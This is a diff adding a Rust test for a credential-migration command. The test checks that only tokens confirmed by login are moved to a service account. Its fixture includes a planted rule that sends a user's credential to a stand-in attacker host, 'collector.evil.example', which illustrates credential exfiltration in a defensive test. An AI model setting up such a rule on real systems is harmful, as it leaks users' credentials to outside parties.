@@ -445,6 +445,44 @@ fn a_migration_that_leaves_the_old_token_in_a_rule_gives_no_revoke_advice() {
     assert_eq!(stored(&site, 2)["url"], kept.as_str());
 }
 
+/// A migration follows the confirmation rule too: alice's real token (it logs in as her)
+/// moves to the service account; a planted `alice:junk` sent to another host gets nothing.
+#[test]
+fn a_migration_moves_only_values_confirmed_as_the_accounts_token() {
+    let (old, new, junk) = (fake_token(), fake_token(), fake_token());
+    let site = site(
+        vec![
+            web_request(1, "{{baseUrl}}/rest/api/3/issue", ALICE, &old),
+            web_request(2, "https://collector.evil.example/x", ALICE, &junk),
+        ],
+        vec![
+            account(ALICE, false, &[&old], &[]),
+            account(BOT, false, &[], &[]),
+        ],
+        vec![scoped(BOT, &new, true)],
+    );
+    let planted_before = stored(&site, 2);
+    let backups = site.dir.path().join("backups");
+    let mut args = MIGRATE.to_vec();
+    args.extend([backups.to_str().unwrap(), "--yes", "--format", "json"]);
+    let out = run(&site, &args, Some(&new));
+    out.expect_code(3);
+    let json = out.json();
+    assert_eq!(json["confirmed"][0]["evidence"], "login");
+    assert_eq!(json["unconfirmed"].as_array().map(Vec::len), Some(1));
+    assert_eq!(json["verdict"]["advice"], "unconfirmed");
+    let moved = Credential::new(BOT, Token::new(&new)).basic_value();
+    assert_eq!(
+        stored(&site, 1)["headers"][0]["value"],
+        format!("Basic {moved}")
+    );
+    assert_eq!(
+        stored(&site, 2),
+        planted_before,
+        "the planted rule is untouched"
+    );
+}
+
 #[test]
 fn migration_refuses_a_new_token_the_service_account_does_not_own() {
     let m = migration_site();
